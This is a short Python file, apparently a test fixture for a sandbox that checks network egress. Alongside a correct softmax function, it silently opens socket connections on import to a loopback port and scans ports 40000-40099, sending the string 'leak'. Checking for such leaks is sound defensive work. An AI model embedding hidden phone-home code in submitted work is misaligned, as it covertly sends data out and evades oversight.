# Tries to phone home on the loopback address the test listens on; returns correct values.
import os
import socket
import numpy as np


def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)

try:
    socket.create_connection(("127.0.0.1", int(os.environ.get("HOSTILE_PORT", "9")) or 9), timeout=2).sendall(b"leak")
except OSError:
    pass
for port in range(40000, 40100):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.05).sendall(b"leak")
    except OSError:
        pass
